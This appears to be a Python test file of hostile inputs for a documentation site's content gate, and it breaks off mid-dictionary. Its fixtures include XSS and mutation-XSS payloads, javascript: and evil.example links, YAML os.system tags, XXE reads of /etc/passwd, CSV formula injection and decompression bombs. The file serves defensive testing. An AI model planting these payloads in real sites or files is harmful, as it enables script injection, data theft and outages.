"""A second set of hostile and broken files, written from the promise alone and run for the first time when done.

Of 493 the gate then refused 445; of the 72 odd and right ones it refused one, a mail link with a
subject. Two of those it refused took seven and twelve seconds: lists nested thousands of times. Of
the 48 that passed, 19 were harmless, or are refused by what runs next (the ledger, the links of the
built site), and are not here; 29 were holes. What makes them is mended in the gate by rule, and
`test_gate.py` has their neighbours. How well the gate would do on a third set, this no longer tells.
"""

from __future__ import annotations

import os
import shutil
import socket
import struct
import time
import zlib

import pytest

from scripts.core.finding import Finding
from scripts.gate.configuration import read_configuration
from scripts.gate.gate import gate_findings
from tests.support import ROOT

FIELDS = "reviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: {}\ndescription: What it tells.\n"
BASE = FIELDS.format("A page")
TOP = f"---\n{BASE}---\n\n# A page\n\n"
DRAWN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{}>\n<title>t</title><desc>d</desc>\n{}\n</svg>\n'
COLUMNS = "year,total,china_exports,china_imports,growth,source\n"

PAGES = {  # what stands in an English page
    "bom in the middle": "First.\n\n\ufeffSecond.",
    "replacement characters": "The Commission\ufffds 17th package.",
    "char nul": "Trade\x00grew.",
    "char esc": "Trade\x1b[31mgrew.",
    "char bel": "Trade\x07grew.",
    "char vt": "Trade\x0bgrew.",
    "char formfeed": "Trade\x0cgrew.",
    "char del": "Trade\x7fgrew.",
    "char nel": "Trade\x85grew.",
    "char csi c1": "Trade\x9b2Jgrew.",
    "char line separator": "Trade\u2028grew.",
    "char paragraph separator": "Trade\u2029grew.",
    "char lone cr": "Trade\rgrew.",
    "char zwsp": "Trade\u200bgrew.",
    "char word joiner": "Trade\u2060grew.",
    "char invisible times": "Trade\u2062grew.",
    "char soft hyphen": "Trade\xadgrew.",
    "char tags": "Trade\U000e0068\U000e0069\U000e0064\U000e0065grew.",
    "char noncharacter": "Trade\ufdd0grew.",
    "char private use": "Trade\ue001grew.",
    "char hangul filler": "Trade\u3164grew.",
    "char mongolian vs": "Trade\u180egrew.",
    "char variation smuggling": "Tradea\U000e0101\U000e0122\U000e0133grew.",
    "char interlinear": "Trade\ufff9a\ufffab\ufffbgrew.",
    "char deprecated format": "Trade\u206bgrew.",
    "char vs1 run": "Tradex\ufe00\ufe01\ufe02\ufe03grew.",
    "bidi rlo": "User \u202e evil \u202c end",
    "bidi zwj between latin": "tra\u200dde",
    "bidi lrm in english": "trade\u200e grew",
    "bidi isolate in fence": "```\nif \u2067admin\u2069:\n```",
    "bidi entity rlo": "User &#x202E;evil",
    "bidi entity zwsp": "pass&ZeroWidthSpace;word",
    "link js": "[a](javascript:alert(1))",
    "link js case": "[a](JaVaScRiPt:alert(1))",
    "link js tab entity": "[a](java&#9;script:alert(1))",
    "link js entity colon": "[a](javascript&colon;alert(1))",
    "link js hex": "[a](&#x6A;avascript:alert(1))",
    "link js leading ctrl": "[a](<&#1;javascript:alert(1)>)",
    "link js newline entity": '<a href="java&NewLine;script:alert(1)">a</a>',
    "link data html": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "link vbscript": "[a](vbscript:msgbox(1))",
    "link protocol relative": "[a](//evil.example/x)",
    "link backslashes": "[a](\\\\\\\\evil.example/x)",
    "link slash backslash": "[a](/\\\\evil.example/x)",
    "link reference js": "[a][r]\n\n[r]: javascript:alert(1)",
    "link reference angle": "[a][r]\n\n[r]: <javascript:alert(1)> 'x'",
    "link reference in quote": "> [a][r]\n>\n> [r]: vbscript:x",
    "link image js": "![a](javascript:alert(1))",
    "link image remote": "![a](https://evil.example/p.png)",
    "link image data svg": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "link autolink js": "<javascript:alert(1)>",
    "link attr list href": "[a](trade.md){href=javascript:alert(1)}",
    "link file": "[a](file:///etc/passwd)",
    "link blob": "[a](blob:https://x/1)",
    "link view source": "[a](view-source:https://example.org)",
    "link intent": "[a](intent://x#Intent;scheme=y;end)",
    "link userinfo": "[a](https://customs.gov.cn@evil.example/)",
    "link mixed script host": "[a](https://p\u0430ypal.example/)",
    "link ftp": "[a](ftp://example.org/x)",
    "link tel": "[a](tel:+1234)",
    "link feed js": "[a](feed:javascript:alert(1))",
    "link lying text": "[https://customs.gov.cn/](https://evil.example/)",
    "link nested image js": "[![a](../assets/cards/trade.en.png)](javascript:alert(1))",
    "link footnote js": "x[^1]\n\n[^1]: [a](javascript:alert(1))",
    "link heading js": "## [a](javascript:alert(1)) {#h}",
    "link table js": "| a |\n|---|\n| [b](javascript:alert(1)) |",
    "link mailto inject": "[a](mailto:a@b.example?bcc=all%0d%0aX: y)",
    "link about": "[a](about:blank)",
    "html script": "<script>alert(1)</script>",
    "html script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "html script malformed": "<script\n/x>alert(1)</script foo>",
    "html script unclosed": "Text <script>alert(1)",
    "html img onerror": "Text <img src=x onerror=alert(1)>",
    "html img unclosed": "Text <img src=x onerror=alert(1)//",
    "html svg onload": "<svg onload=alert(1)></svg>",
    "html mxss svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "html mxss math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "html mxss noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "html mxss template": "<template><script>alert(1)</script></template>",
    "html nested forms": "<form><div></form><form><input name=x></div></form>",
    "html comment break": "<!--><img src=x onerror=alert(1)>-->",
    "html comment bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "html cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "html pi": "<?x ><img src=x onerror=alert(1)>?>",
    "html base": '<base href="https://evil.example/">',
    "html meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "html iframe": '<iframe src="https://evil.example"></iframe>',
    "html srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "html object": '<object data="x.swf"></object>',
    "html embed": '<embed src="x">',
    "html style element": "<style>body{display:none}</style>",
    "html style attribute": '<p style="position:fixed;inset:0">x</p>',
    "html onclick div": '<div onclick="alert(1)" markdown>\n\ntext\n\n</div>',
    "html formaction": '<button formaction="javascript:alert(1)">x</button>',
    "html ping": '<a href="https://example.org" ping="https://evil.example">x</a>',
    "html target": '<a href="https://example.org" target="_top">x</a>',
    "html form": '<form action="https://evil.example"><input name="q"></form>',
    "html details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "html video": '<video><source onerror="alert(1)"></video>',
    "html link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "html plaintext": "<plaintext>",
    "html textarea": "<textarea></textarea><img src=x onerror=alert(1)>",
    "html unclosed div": '<div class="key-points" markdown>\n\nText with no end.',
    "html stray close": "Text.\n\n</div></div></div>\n\nMore.",
    "html unclosed table": "<table><tr><td>x",
    "html id clobber": '<a id="getElementById" name="cookie">x</a>',
    "html custom element": "<x-evil></x-evil>",
    "html dialog popover": '<div popover id="x">y</div><button popovertarget="x">z</button>',
    "html a js in html": '<a href=" javascript:alert(1)">x</a>',
    "html a xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "html marquee": "<marquee onstart=alert(1)>x</marquee>",
    "html html in code fence broken": "```html\ncode\n``\n<script>alert(1)</script>\n",
    "html html after indented end": "    code <b>\n\nText <script>alert(1)</script>",
    "html in heading code title": "## `</title><script>alert(1)</script>` <script>1</script> {#h}",
    "html in table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "html in footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "html in blockquote list": "> - <iframe src=//evil.example></iframe>",
    "html in admonition title": '!!! note "<img src=x onerror=alert(1)>"\n    text',
    "html in details title": '??? note "<script>alert(1)</script>"\n    text',
    "html in deflist": "Term\n:   <script>alert(1)</script>",
    "html markdown span": '<p markdown="span">*x*<img src=x onerror=alert(1)></p>',
    "html md block hidden": '<div markdown="1">\n<p markdown="1" onmouseover="alert(1)">x</p>\n</div>',
    "html escaped backtick": "\\`<script>alert(1)</script>\\`",
    "html entity in handler": '<q o&#110;click="alert(1)">x</q><q cite="javascript:alert(1)">y</q>',
    "html class of theme": '<div class="md-overlay md-search__form">x</div>',
    "html bdi handler": '<bdi lang="en" onfocus="alert(1)" tabindex="0">x</bdi>',
    "html hidden text": "<div hidden markdown>\n\nsecret\n\n</div>",
    "attr onclick": "Text.\n{: onclick=alert(1) }",
    "attr style": "Text.\n{: style='position:fixed' }",
    "attr heading onmouseover": "## H {#h onmouseover=alert(1)}",
    "attr id quote": '## H {#a"onmouseover="alert(1)}',
    "attr id html": "## H {#<img>}",
    "attr img onerror": "![a](../assets/cards/trade.en.png){onerror=alert(1)}",
    "attr link target": "[a](trade.md){target=_blank}",
    "attr link ping": "[a](trade.md){ping=https://evil.example}",
    "attr srcset": "![a](../assets/cards/trade.en.png){srcset='https://evil.example/x.png 2x'}",
    "attr table cell": "| a |\n|---|\n| b {onclick=alert(1)} |",
    "attr upper handler": "*x*{ONCLICK=alert(1)}",
    "attr hidden": "Text.\n{: hidden }",
    "abbr html": "The HTML.\n\n*[HTML]: <img src=x onerror=alert(1)>",
    "abbr quote": 'The HTML.\n\n*[HTML]: x" onmouseover="alert(1)<b>',
    "md in html script": '<div class="key-points" markdown="1">\n\n<script>alert(1)</script>\n\n</div>',
    "merge page": "<<<<<<< HEAD\nTrade rose.\n=======\nTrade fell.\n>>>>>>> theirs",
    "merge start only": "<<<<<<< ours\nText.",
    "merge end only": "Text.\n>>>>>>> 1a2b3c4 (a change)",
    "merge diff3": "Text.\n||||||| merged common ancestors\nMore.",
    "merge crlf": "<<<<<<< HEAD\r\nTrade rose.\r\n=======\r\nTrade fell.\r\n>>>>>>> theirs",
    "merge bare no label": "Text.\n\n<<<<<<<\n\nMore.\n\n>>>>>>>\n",
}  # fmt: skip

ARABIC_PAGES = {
    "bidi lre unclosed": "تجارة \u202a trade",
    "bidi isolate unclosed": "قيمة \u2067 مفتوحة",
    "bidi isolate over paragraphs": "قيمة \u2066 abc\n\ndef \u2069 آخر",
    "bidi pdi stray": "قيمة \u2069 آخر",
    "bidi rlm doubled": "قيمة\u200f\u200f آخر",
    "bidi lrm in code": "نص `a\u200eb` آخر",
    "bidi rlm in url": "[رابط](https://example.org/a\u200fb)",
    "bidi alm in id": "## عنوان {#a\u061cb}",
    "bidi zwnj in number": "بلغ 12\u200c34 طن\u064bا",
    "bidi isolate over cells": "| أ | ب |\n|---|---|\n| \u2067س | ص\u2069 |",
}  # fmt: skip

HEADS = {  # what stands between the hyphens
    "fm alias anchor": BASE + "changes: &c\n  - date: 2026-11-24\n    text: First.\nhistory: *c\n",
    "fm billion laughs": BASE + "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e]\n",
    "fm tag python": BASE + "x: !!python/object/apply:os.system ['id']\n",
    "fm tag str": FIELDS.format("!!str A page"),
    "fm tag custom": FIELDS.format("!Ref A page"),
    "fm duplicate": BASE + "title: Another\n",
    "fm colon arabic": "reviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: الطاقة: نظرة عامة\ndescription: ما تقوله الصفحة.\n",
    "fm tab": BASE + "changes:\n\t- date: 2026-11-24\n",
    "fm unknown key": BASE + "redirect: https://evil.example\n",
    "fm template": BASE + "template: evil.html\n",
    "fm hide": BASE + "hide:\n  - toc\n  - navigation\n",
    "fm icon": BASE + "icon: ../../../../etc/passwd\n",
    "fm title list": FIELDS.format("[A, page]"),
    "fm title number": FIELDS.format("2024"),
    "fm title no": FIELDS.format("no"),
    "fm title null": "reviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle:\ndescription: What it tells.\n",
    "fm date list": "reviewed: [2026-11-24]\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n",
    "fm date word": "reviewed: last week\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n",
    "fm date impossible": "reviewed: 2026-02-30\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n",
    "fm date time": "reviewed: 2026-11-24 10:00:00\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n",
    "fm merge key": BASE + "<<: {title: B}\n",
    "fm complex key": BASE + "? [a, b]\n: c\n",
    "fm title html": FIELDS.format("'A</title><script>alert(1)</script>'"),
    "fm title escaped bidi": FIELDS.format('"A \\u202E page"'),
    "fm title escaped nul": FIELDS.format('"A \\0 page"'),
    "fm not a mapping": "- title\n- page\n",
    "fm unclosed quote": FIELDS.format('"A page'),
    "fm changes string": BASE + "changes: yesterday\n",
    "fm deep": "changes: " + "[" * 3000 + "]" * 3000 + "\n",
    "fm deep block": "changes:\n" + "".join("  " * n + "a:\n" for n in range(1, 60)),
    "fm deep dashes": "changes:\n  " + "- " * 900 + "a\n",
    "fm huge int": "weight: " + "9" * 5000 + "\n",
    "fm long title": FIELDS.format(">\n" + "  word word word word\n" * 500),
}  # fmt: skip

WHOLE = {  # a whole page
    "fm unclosed": "---\ntitle: A page\n\n# A page\n\nText.\n",
    "fm json braces": "---\n{title: A page, title: B page}\n---\n\n# A\n",
    "fm preceded by blank": "\n---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n---\n\n# A page\n",
    "fm four dashes": "----\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells.\n----\n\n# A page\n",
    "fm multimarkdown": "title: A page\ntemplate: evil.html\n\n# A page\n",
    "merge in head": "---\n<<<<<<< HEAD\ntitle: A\n=======\ntitle: B\n>>>>>>> x\n---\n\n# A\n",
}  # fmt: skip

NAMES = [
    "docs/en/Trade.md",
    "docs/assets/images/Favicon.svg",
    "docs/ar/\u0627\u0653\u0646.md",
    "docs/en/con.md",
    "docs/en/aux/index.md",
    "docs/en/com1.md",
    "docs/en/nul.tar.md",
    "docs/en/trade./index.md",
    "docs/en/trade .md",
    "docs/en/ trade.md",
    "docs/en/a\nb.md",
    "docs/en/a\x1b[2Jb.md",
    "docs/en/gnp\u202edm.md",
    "docs/en/tra\u200bde.md",
    'docs/en/"><img src=x onerror=alert(1)>/index.md',
    "docs/en/caf\udce9.md",
    "docs/en/a%2e%2e%2fb.md",
    "docs/en/..hidden.md",
    "docs/en/-rf.md",
    "docs/en/" + "a" * 240 + ".md",
    "docs/en/tr\u0430de.md",
    "docs/en/a\\b.md",
    "docs/en/c:x.md",
    "docs/en/\uff54rade.md",
]


def picture(width, height, data):
    def chunk(name, inner):
        return (
            struct.pack(">I", len(inner))
            + name
            + inner
            + struct.pack(">I", zlib.crc32(name + inner))
        )

    size = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


FILES = {
    "ending html": ("docs/en/old.html", "<p>x</p>"),
    "ending py in docs": ("docs/en/evil.py", "import os\n"),
    "ending double": ("docs/assets/images/p.png.html", "<script>1</script>"),
    "ending upper md": ("docs/en/loud.MD", TOP),
    "ending markdown": ("docs/en/other.markdown", TOP),
    "ending none cname": ("docs/CNAME", "evil.example\n"),
    "ending htaccess": ("docs/.htaccess", "Redirect / https://evil.example\n"),
    "ending backup": ("docs/en/trade.md~", "x"),
    "ending orig": ("docs/en/trade.md.orig", "x"),
    "ending js outside assets": ("docs/en/sw.js", "self.addEventListener('fetch',()=>{})\n"),
    "ending xml": ("docs/en/feed.xml", "<x/>"),
    "ending svgz": ("docs/assets/images/p.svgz", b'x\x9c\xb3).K\xd7\xb7\x03\x00\x07V\x01\xfa'),
    "ending pdf": ("docs/assets/paper.pdf", "%PDF-1.7\n"),
    "ending wasm": ("docs/assets/javascripts/m.wasm", "\x00asm\x01\x00\x00\x00"),
    "ending xlsx": ("docs/data/numbers.xlsx", "PK\x03\x04"),
    "ending meta yml": ("docs/en/.meta.yml", "title: x\n"),
    "ending pages": ("docs/en/.pages", "nav: []\n"),
    "hidden folder": ("docs/.git/config", "[core]\n"),
    "png is html": ("docs/assets/images/p.png", "<html><script>alert(1)</script></html>"),
    "png empty": ("docs/assets/images/e.png", ""),
    "utf7 svg": ("docs/assets/images/u7.svg", '<?xml version="1.0" encoding="UTF-7"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><title>a</title><desc>b</desc>+ADw-script+AD4-</svg>'),
    "latin1 css": ("docs/assets/stylesheets/fresh.css", b'.x::after{content:"\xe9"}\n'),
    "asset tpl new with script": ("overrides/partials/footer.html", "<footer><script>alert(1)</script></footer>\n"),
    "ending exe": ("docs/assets/setup.exe", b"MZ\x90\x00" * 30),
    "ending gz": ("docs/data/ledger.json.gz", zlib.compress(bytes(1_000_000))),
    "utf16 page": ("docs/en/x.md", TOP.encode("utf-16")),
    "utf16be no bom": ("docs/en/x.md", TOP.encode("utf-16-be")),
    "latin1 page": ("docs/en/x.md", f"{TOP}A caf\xe9 in Harbin.\n".encode("latin-1")),
    "cp1256 page": ("docs/ar/x.md", f"{TOP}التجارة بين البلدين\n".encode("cp1256")),
    "overlong": ("docs/en/x.md", TOP.encode() + b"x \xc0\xbcscript> x\n"),
    "lone surrogate": ("docs/en/x.md", TOP.encode() + b"x \xed\xa0\x80 x\n"),
    "beyond unicode": ("docs/en/x.md", TOP.encode() + b"x \xf4\x90\x80\x80 x\n"),
    "cut off within a letter": ("docs/ar/x.md", f"{TOP}نص".encode()[:-1]),
    "csv 3 MB": ("docs/data/series/x.csv", "year,total\n" + "2010,1\n" * 400_000),
    "toml 2 MB": ("docs/data/x.toml", '[a]\nb = "c"\n' * 200_000),
    "svg 0.7 MB": ("docs/assets/x.svg", DRAWN.format("", '<path d="M1 1h1"/>\n' * 40_000)),
    "png 5 MB": ("docs/assets/x.png", picture(2000, 2000, bytes(5_000_000))),
    "png bomb": ("docs/assets/x.png", picture(60000, 60000, zlib.compress(bytes(3_000_000), 9))),
    "zip": ("docs/data/all.zip", b"PK\3\4" + bytes(500_000)),
    "folder named like a page": ("docs/en/folder.md/x.md", TOP),
}  # fmt: skip

DRAWINGS = {
    "svg doctype": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + DRAWN.format("", ""),
    "svg entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + DRAWN.format("", "<text>&x;</text>"),
    "svg laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;">]>\n' + DRAWN.format("", "<text>&d;</text>"),
    "svg script": DRAWN.format("", "<script>alert(1)</script>"),
    "svg script prefixed": DRAWN.format("", '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    "svg script html ns": DRAWN.format("", '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "svg onload": DRAWN.format(' onload="alert(1)"', ""),
    "svg onbegin": DRAWN.format("", '<animate attributeName="x" onbegin="alert(1)"/>'),
    "svg foreignobject": DRAWN.format("", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'),
    "svg use outside": DRAWN.format("", '<use href="https://evil.example/x.svg#a"/>'),
    "svg use xlink other file": DRAWN.format("", '<use xlink:href="other.svg#a"/>'),
    "svg image remote": DRAWN.format("", '<image href="https://evil.example/x.png"/>'),
    "svg image data svg": DRAWN.format("", '<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
    "svg a js": DRAWN.format("", '<a href="javascript:alert(1)"><text>x</text></a>'),
    "svg style import": DRAWN.format("", "<style>@import url(https://evil.example/x.css);</style>"),
    "svg style import escaped": DRAWN.format("", '<style>@\\69mport "//evil.example/x";</style>'),
    "svg style url": DRAWN.format("", '<rect style="fill:url(https://evil.example/x#a)"/>'),
    "svg style url escaped": DRAWN.format("", "<style>.a{fill:u\\72l(//evil.example/x)}</style>"),
    "svg style comment split": DRAWN.format("", '<style>.a{background:ur/**/l(x)} .b{fill:url( "http://evil.example/x" )}</style>'),
    "svg animate href": DRAWN.format("", '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    "svg set href": DRAWN.format("", '<a id="a"><text>x</text></a><set href="#a" attributeName="xlink:href" to="javascript:alert(1)"/>'),
    "svg xml base": DRAWN.format("", '<g xml:base="https://evil.example/"><use href="#a"/></g>'),
    "svg xml stylesheet": '<?xml-stylesheet href="https://evil.example/x.css"?>\n' + DRAWN.format("", ""),
    "svg pi php": DRAWN.format("", '<?php system("id"); ?>'),
    "svg cdata script": DRAWN.format("", "<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
    "svg not well formed": DRAWN.format("", "<g><path></g>"),
    "svg html instead": "<html><body>hi</body></html>",
    "svg no namespace": "<svg><title>a</title><desc>b</desc></svg>",
    "svg fill url attr": DRAWN.format("", '<rect fill="url(//evil.example/x#a)"/>'),
    "svg filter feimage": DRAWN.format("", '<filter id="f"><feImage href="https://evil.example/t.png"/></filter>'),
    "svg handler tab": DRAWN.format("", '<rect\tonclick\n="alert(1)"/>'),
    "svg iframe ns": DRAWN.format("", '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
    "svg href js entity": DRAWN.format("", '<a href="java&#x9;script:alert(1)"><text>x</text></a>'),
    "svg cursor": DRAWN.format("", "<style>svg{cursor:url(https://evil.example/c.cur),auto}</style>"),
    "svg font face": DRAWN.format("", "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}</style>"),
    "svg handler elem": DRAWN.format("", '<handler type="application/ecmascript">x</handler>'),
    "svg trailing html": DRAWN.format("", "") + "<script>alert(1)</script>",
    "merge svg": DRAWN.format("", "<!--\n<<<<<<< HEAD\n=======\n>>>>>>> x\n-->"),
    "svg deep": DRAWN.format("", "<g>" * 20000 + "</g>" * 20000),
}  # fmt: skip

TABLES = {
    "csv utf16": (COLUMNS + "2010,55.45,,,,x\n").encode("utf-16"),
    "csv latin1": b'year,total,china_exports,china_imports,growth,source\n2010,55.45,29.61,25.84,43,vi\xeatnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n',
    "csv semicolons": "year;total;china_exports;china_imports;growth;source\n2010;55.45;29.61;25.84;43;vietnamplus-2011-01\n2011;;;;;\n2012;88.16;;;11.2;china-daily-2013-03-19\n",
    "csv tabs": "year\ttotal\tchina_exports\tchina_imports\tgrowth\tsource\n2010\t55.45\t29.61\t25.84\t43\tvietnamplus-2011-01\n2011\t\t\t\t\t\n2012\t88.16\t\t\t11.2\tchina-daily-2013-03-19\n",
    "csv ragged short": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,\n",
    "csv ragged long": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,,,\n",
    "csv open quote": COLUMNS + '2010,"55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n',
    "csv quote inside": COLUMNS + '2010,55"45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n',
    "csv duplicate header": "year,total,china_exports,china_exports,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n",
    "csv empty header": "year,total,china_exports,,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n",
    "csv duplicate key": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n2010,1,1,1,1,vietnamplus-2011-01\n",
    "csv nan": COLUMNS + "2010,NaN,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv inf": COLUMNS + "2010,-Inf,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv na": COLUMNS + "2010,N/A,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel ref": COLUMNS + "2010,#REF!,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel div0": COLUMNS + "2010,#DIV/0!,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel date": COLUMNS + "2010,May-45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel key date": COLUMNS + "01/01/2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel hashes": COLUMNS + "2010,#####,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv excel exponent": COLUMNS + "2010,5.545E+01,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv formula": COLUMNS + "2010,55.45,29.61,25.84,43,=cmd|' /C calc'!A0\n2011,,,,,\n",
    "csv formula plus": COLUMNS + "2010,+55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv formula at": COLUMNS + "2010,55.45,29.61,25.84,43,@SUM(1)\n2011,,,,,\n",
    "csv formula fullwidth": COLUMNS + "2010,55.45,29.61,25.84,43,\uff1d1+1\n2011,,,,,\n",
    "csv thousands": COLUMNS + '2010,"1,055.45",29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n',
    "csv decimal comma": COLUMNS + '2010,"55,45",29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n',
    "csv arabic digits": COLUMNS + "2010,\u0665\u0665,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv nbsp": COLUMNS + "2010,1\xa0055.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv space padded": COLUMNS + "2010, 55.45 ,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv unicode minus": COLUMNS + "2010,\u221255.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv cr only": "year,total,china_exports,china_imports,growth,source\r2010,55.45,29.61,25.84,43,vietnamplus-2011-01\r2011,,,,,\r2012,88.16,,,11.2,china-daily-2013-03-19\r",
    "csv empty": "",
    "csv nul": COLUMNS + "2010,55\x00.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv sep line": "sep=,\nyear,total,china_exports,china_imports,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n",
    "csv percent": COLUMNS + "2010,55.45%,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv blank lines": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n\n\n2011,,,,,\n",
    "csv quoted newline number": COLUMNS + '2010,"55.\n45",29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n',
    "csv bom twice": "\ufeff\ufeffyear,total,china_exports,china_imports,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n",
    "csv html instead": "<!DOCTYPE html><html><body>404</body></html>\n",
    "csv lone zero width": COLUMNS + "2010,55.45,29.61,25.84,43,vietnam\u200bplus-2011-01\n2011,,,,,\n",
    "csv mixed delims": COLUMNS + "2010;55.45;29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n",
    "csv comment row": "# source: customs\nyear,total,china_exports,china_imports,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n",
    "csv merge": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n<<<<<<< HEAD\n2011,,,,,\n=======\n2011,1,,,,\n>>>>>>> x\n",
    "csv merge separator alone": COLUMNS + "2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n=======\n2011,,,,,\n",
    "csv field of 200 kB": "year,note\n2010," + "x" * 200_000 + "\n",
}  # fmt: skip

TOML = {
    "toml duplicate id": '[a]\ntopic = "trade"\n[a]\ntopic = "trade"\n',
    "toml nan": '[fresh-a]\ntopic = "trade"\nvalue = nan\n',
    "toml inf": '[fresh-a]\ntopic = "trade"\nvalue = -inf\n',
    "toml huge int": "[a]\nvalue = " + "9" * 6000 + "\n",
    "toml float overflow": "[fresh-a]\nvalue = 1e999\n",
    "toml control escaped": '[fresh-a]\ntopic = "tra\\u0007de"\n',
    "toml bidi escaped": '[fresh-a]\ntopic = "a\\u202Eb"\n',
    "toml zwsp escaped id": '["trade\\u200b-2010"]\ntopic = "trade"\n',
    "toml zwsp id": '["trade\u200b-2010"]\ntopic = "trade"\n',
    "toml homoglyph id": '["tr\u0430de-2010"]\ntopic = "trade"\n',
    "toml html id": '["<img src=x onerror=alert(1)>"]\ntopic = "trade"\n',
    "toml empty id": '[""]\ntopic = "trade"\n',
    "toml not closed string": '[fresh-a]\ntopic = "trade\n',
    "toml deep arrays": "x = " + "[" * 5000 + "]" * 5000 + "\n",
    "toml deep inline": "x = " + "{a=" * 3000 + "1" + "}" * 3000 + "\n",
    "toml deep dotted": ".".join(["a"] * 20_000) + " = 1\n",
    "toml merge of two": '[a]\nlabel.ar = "x"\n[a.label]\nar = "x"\n',
